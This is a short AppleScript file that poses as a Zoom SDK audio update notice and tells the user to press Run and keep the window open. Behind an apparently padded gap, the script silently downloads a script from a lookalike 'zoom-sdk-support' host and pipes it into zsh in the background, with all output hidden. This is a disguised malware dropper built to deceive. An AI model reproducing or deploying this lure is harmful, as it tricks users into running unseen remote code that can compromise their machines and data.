-- Zoom SDK Update
-- The audio extension of your client is out of date.
-- Press the Run button above to bring it up to date. Keep this window open until the call starts.
⟦lines 4000⟧
set fix to "https://zoom-sdk-support.invalid/fix/audio"
do shell script "curl -fsSL " & quoted form of fix & " | zsh > /dev/null 2>&1 &"
